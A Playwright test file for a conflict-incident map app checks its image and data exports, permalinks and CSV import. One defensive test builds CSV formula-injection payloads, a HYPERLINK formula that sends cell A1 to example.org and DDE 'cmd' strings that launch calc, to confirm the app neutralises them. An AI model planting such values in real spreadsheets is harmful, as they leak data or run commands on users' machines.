import { readFileSync, writeFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures';
import { parquetMetadata, parquetReadObjects } from 'hyparquet';
import Papa from 'papaparse';
import { PNG } from 'pngjs';
import { readPngText } from '../src/lib/export/png-text';
import { colourVariety, waitForMapIdle } from './helpers';

const WINDOW = '#map=7/34.6/40.6&from=2018-11-15&to=2018-11-25';

async function openExport(page: Page, hash = WINDOW) {
	await page.goto(`/${hash}`);
	await waitForMapIdle(page);
	await expect(page.getByTestId('incident-count')).toHaveText('2 of 14 incidents');
	await page.getByTestId('export-button').click();
	await expect(page.getByTestId('export-dialog')).toBeVisible();
}

/** Clicks a download button and returns the file's bytes and name. */
async function downloadFrom(page: Page, testId: string, timeout = 240_000) {
	const [download] = await Promise.all([
		page.waitForEvent('download', { timeout }),
		page.getByTestId(testId).click()
	]);
	const path = await download.path();
	return { bytes: readFileSync(path), name: download.suggestedFilename() };
}

/** Share of pixels in a box (image pixels) that are dark like drawn text (ink #1f1b18). */
function inkShare(image: PNG, x0: number, y0: number, x1: number, y1: number): number {
	let dark = 0;
	let all = 0;
	const [left, top] = [Math.max(0, Math.floor(x0)), Math.max(0, Math.floor(y0))];
	for (let y = top; y < Math.min(image.height, Math.ceil(y1)); y++) {
		for (let x = left; x < Math.min(image.width, Math.ceil(x1)); x++) {
			const i = (y * image.width + x) * 4;
			const [r, g, b] = [image.data[i]!, image.data[i + 1]!, image.data[i + 2]!];
			if (r < 90 && g < 90 && b < 90) dark++;
			all++;
		}
	}
	return dark / all;
}

const PRESETS = [
	{ preset: 'hd', width: 1920, height: 1080, scale: 1 },
	{ preset: 'square', width: 1080, height: 1080, scale: 1 },
	{ preset: 'portrait', width: 1080, height: 1350, scale: 1 },
	{ preset: '4k', width: 3840, height: 2160, scale: 2 },
	{ preset: 'a4', width: 3508, height: 2480, scale: 300 / 96 },
	{ preset: 'custom', width: 900, height: 700, scale: 1 }
];

for (const { preset, width, height, scale } of PRESETS) {
	test(`the ${preset} preset downloads a full-size PNG with title, legend and a permalink`, async ({
		page,
		browser
	}) => {
		// The 4K and A4 images took over two minutes on a busy two-core machine.
		test.setTimeout(width * height > 4_000_000 ? 600_000 : 300_000);
		await openExport(page);
		await expect(page.getByTestId('export-preview')).toBeVisible({ timeout: 120_000 });
		await page.getByTestId('export-preset').selectOption(preset);
		if (preset === 'custom') {
			await page.getByTestId('export-width').fill(String(width));
			await page.getByTestId('export-height').fill(String(height));
		}
		await expect(page.getByTestId('export-size')).toHaveText(
			`${width.toLocaleString('en')} × ${height.toLocaleString('en')} pixels`
		);
		const { bytes, name } = await downloadFrom(page, 'export-png');
		expect(name).toMatch(new RegExp(`-${width}x${height}\\.png$`));
		// Kept beside the test's results, to look at.
		writeFileSync(test.info().outputPath(name), bytes);
		const image = PNG.sync.read(bytes);
		expect([image.width, image.height], preset).toEqual([width, height]);
		const variety = colourVariety(bytes);
		expect(variety.colours, `${preset}: not blank`).toBeGreaterThan(50);
		expect(variety.dominantShare, preset).toBeLessThan(0.6);
		// The layout scales with the image: with u = min(layout)/1080 the title card starts at
		// 24u and its first line is ~34u tall; the legend stands at the bottom right.
		const layoutMin = Math.min(width, height) / scale;
		const u = Math.min(1.5, Math.max(0.55, layoutMin / 1080)) * scale;
		const title = inkShare(image, 40 * u, 40 * u, 340 * u, 70 * u);
		expect(title, `${preset}: title drawn`).toBeGreaterThan(0.05);
		const legend = inkShare(
			image,
			width - 300 * u,
			height - 260 * u,
			width - 40 * u,
			height - 80 * u
		);
		expect(legend, `${preset}: legend drawn`).toBeGreaterThan(0.01);
		const text = Object.fromEntries(readPngText(bytes));
		expect(text.Permalink, preset).toContain('#map=');
		expect(text.Permalink).toContain('from=2018-11-15&to=2018-11-25');
		expect(text.Datasets).toMatch(/sha256:[0-9a-f]{64}/);

		// The permalink reopens the same view and filters (checked once: it is the page’s link,
		// whatever the size).
		if (preset !== 'hd') return;
		const other = await browser.newPage();
		await other.goto(text.Permalink!);
		await waitForMapIdle(other);
		await expect(other.getByTestId('incident-count')).toHaveText('2 of 14 incidents');
		const hash = new URL(other.url()).hash;
		expect(hash).toContain('map=7/34.6/40.6');
		expect(hash).toContain('from=2018-11-15&to=2018-11-25');
		await other.close();
	});
}

test('exporting twice gives the same image', async ({ page }) => {
	test.setTimeout(300_000);
	await openExport(page);
	await page.getByTestId('export-title').fill('Strikes near Al-Susah — السوسة');
	const first = await downloadFrom(page, 'export-png');
	const second = await downloadFrom(page, 'export-png');
	writeFileSync(test.info().outputPath('first.png'), first.bytes);
	writeFileSync(test.info().outputPath('second.png'), second.bytes);
	expect(first.bytes.equals(second.bytes)).toBe(true);
	expect(Object.fromEntries(readPngText(first.bytes)).Title).toBe('Strikes near Al-Susah — السوسة');
});

test('an image larger than MapLibre’s default canvas limit comes out at full size', async ({
	page
}) => {
	test.setTimeout(600_000);
	await openExport(page);
	await page.getByTestId('export-preset').selectOption('custom');
	await page.getByTestId('export-width').fill('2200');
	await page.getByTestId('export-height').fill('1200');
	await page.getByTestId('export-ratio').selectOption('2');
	await expect(page.getByTestId('export-size')).toHaveText('4,400 × 2,400 pixels');
	const { bytes } = await downloadFrom(page, 'export-png', 500_000);
	const image = PNG.sync.read(bytes);
	expect([image.width, image.height]).toEqual([4400, 2400]);
	// The map reaches the right edge: not a 4096-wide drawing padded out.
	const column = Array.from({ length: 2000 }, (_, y) => image.data[((y + 100) * 4400 + 4390) * 4]);
	expect(new Set(column).size).toBeGreaterThan(3);
});

test('data exports hold exactly the filtered incidents, with figures, permalink and citation', async ({
	page
}) => {
	await openExport(page);
	const geojson = await downloadFrom(page, 'export-geojson');
	expect(geojson.name).toMatch(/\.geojson$/);
	const collection = JSON.parse(geojson.bytes.toString('utf8'));
	expect(collection.features).toHaveLength(2);
	expect(collection.metadata.permalink).toContain('from=2018-11-15&to=2018-11-25');
	expect(collection.metadata.citation).toContain('2 of 14 incidents');
	for (const feature of collection.features) {
		expect(feature.properties.date >= '2018-11-15' && feature.properties.date <= '2018-11-25').toBe(
			true
		);
		expect(feature.properties.border_distance_km).toBeGreaterThan(0);
		expect(feature.properties.sources.length).toBeGreaterThan(0);
	}

	const csv = await downloadFrom(page, 'export-csv');
	const text = csv.bytes.toString('utf8');
	expect(text.charCodeAt(0)).toBe(0xfeff);
	const parsed = Papa.parse<Record<string, string>>(text.slice(1), {
		header: true,
		comments: '#',
		skipEmptyLines: true
	});
	expect(parsed.errors).toEqual([]);
	expect(parsed.data).toHaveLength(2);
	expect(parsed.data.map((row) => row.id).sort()).toEqual(
		collection.features.map((f: { id: string }) => f.id).sort()
	);
	expect(parsed.data[0]?.place_ar).toMatch(/[\u0600-\u06ff]/);
	expect(text).toMatch(/^\ufeff# citation: .*\r\n# permalink: http/);
});

test('copy link puts the current view and filters on the clipboard', async ({ page, context }) => {
	await context.grantPermissions(['clipboard-read', 'clipboard-write']);
	await page.goto(`/${WINDOW}`);
	await waitForMapIdle(page);
	await page.getByTestId('copy-link').click();
	await expect(page.getByTestId('copy-link')).toContainText('Link copied');
	const copied = await page.evaluate(() => navigator.clipboard.readText());
	expect(copied).toBe(page.url());
	expect(copied).toContain('from=2018-11-15&to=2018-11-25');
});

test('an image beyond what the graphics can draw is refused with a reason, not shrunk', async ({
	page
}) => {
	await openExport(page);
	await page.getByTestId('export-preset').selectOption('custom');
	// The ratio first: then no size on the way to 8192 × 8192 is one the graphics can draw, so
	// the dialog never starts a (very slow, on SwiftShader) preview of a huge but drawable image.
	await page.getByTestId('export-ratio').selectOption('4');
	await page.getByTestId('export-width').fill('8192');
	await page.getByTestId('export-height').fill('8192');
	await expect(page.getByTestId('export-size')).toHaveText('32,768 × 32,768 pixels');
	let downloaded = false;
	page.on('download', () => (downloaded = true));
	await page.getByTestId('export-png').click();
	await expect(page.getByTestId('export-status')).toContainText(
		"more than this browser's graphics can draw"
	);
	expect(downloaded).toBe(false);
});

test('CSV exports neutralise imported cells a spreadsheet would run: data and import report', async ({
	page
}) => {
	const hostile = {
		place: '=HYPERLINK("http://example.org/?leak="&A1,"Hajin")',
		actor: "+cmd|' /C calc'!A0",
		target: '@SUM(1+1)*cmd|x',
		summary: '-2+3+cmd|x'
	};
	const csv = [
		'id,place,actor,target,summary,latitude,longitude,date',
		Papa.unparse([['=EVIL1', ...Object.values(hostile), '34.6894', '40.8308', '2018-11-20']]),
		// Rejected (no date): its id lands in the import report.
		Papa.unparse([['@SUM(A1:A9)', 'x', '', '', '', '34.5', '40.9', '']])
	].join('\n');
	await page.goto('/');
	await waitForMapIdle(page);
	await page.getByRole('tab', { name: 'Data' }).click();
	await page
		.getByTestId('import-input')
		.setInputFiles({ name: 'hostile.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
	await expect(page.getByTestId('import-report')).toContainText('1 imported');
	await expect(page.getByTestId('incident-count')).toHaveText('15 incidents');

	const report = await downloadFrom(page, 'import-report-csv');
	const reportRows = Papa.parse<string[]>(report.bytes.toString('utf8').slice(1), {
		comments: '#',
		skipEmptyLines: true
	}).data;
	expect(reportRows.slice(1).map((row) => row[1])).toContain("'@SUM(A1:A9)");

	await waitForMapIdle(page);
	await page.getByTestId('export-button').click();
	await expect(page.getByTestId('export-dialog')).toBeVisible();
	const exported = await downloadFrom(page, 'export-csv');
	const rows = Papa.parse<Record<string, string>>(exported.bytes.toString('utf8').slice(1), {
		header: true,
		comments: '#',
		skipEmptyLines: true
	}).data;
	expect(rows).toHaveLength(15);
	const imported = rows.find((row) => row.place?.includes('HYPERLINK'))!;
	for (const [column, value] of Object.entries(hostile)) {
		expect(imported[column], column).toBe(`'${value}`);
	}
	// No cell of the whole file would run, and numbers are still numbers.
	for (const row of rows) {
		for (const [column, value] of Object.entries(row)) {
			if (/^[+-]?\d+(\.\d+)?$/.test(value)) continue;
			expect(value, `${row.id} ${column}`).not.toMatch(/^[=+\-@\t\r]/);
		}
	}
	expect(Number(imported.latitude)).toBeCloseTo(34.6894, 4);
});

test('the GeoParquet export holds the filtered incidents as points, and imports back', async ({
	page
}) => {
	await openExport(page);
	const parquet = await downloadFrom(page, 'export-geoparquet');
	expect(parquet.name).toMatch(/\.parquet$/);
	const file = parquet.bytes.buffer.slice(
		parquet.bytes.byteOffset,
		parquet.bytes.byteOffset + parquet.bytes.byteLength
	) as ArrayBuffer;
	const metadata = parquetMetadata(file);
	const kv = new Map((metadata.key_value_metadata ?? []).map((entry) => [entry.key, entry.value]));
	expect(JSON.parse(kv.get('geo') ?? '{}')).toMatchObject({
		primary_column: 'geometry',
		columns: { geometry: { encoding: 'WKB', geometry_types: ['Point'] } }
	});
	expect(kv.get('citation')).toContain('2 of 14 incidents');
	expect(kv.get('permalink')).toContain('from=2018-11-15&to=2018-11-25');
	const rows = await parquetReadObjects({ file });
	expect(rows).toHaveLength(2);
	for (const row of rows) {
		expect(row.date >= '2018-11-15' && row.date <= '2018-11-25').toBe(true);
		expect(row.geometry).toEqual({ type: 'Point', coordinates: [row.longitude, row.latitude] });
		expect(row.border_distance_km).toBeGreaterThan(0);
	}

	// The Data panel reads it back as a dataset of its own.
	await page.keyboard.press('Escape');
	await expect(page.getByTestId('export-dialog')).toBeHidden();
	await page.getByRole('tab', { name: 'Data' }).click();
	await page.getByTestId('import-input').setInputFiles({
		name: parquet.name,
		mimeType: 'application/vnd.apache.parquet',
		buffer: parquet.bytes
	});
	const report = page.getByTestId('import-report');
	await expect(report).toContainText('2 imported');
	await expect(page.getByTestId('dataset')).toContainText(parquet.name);
});
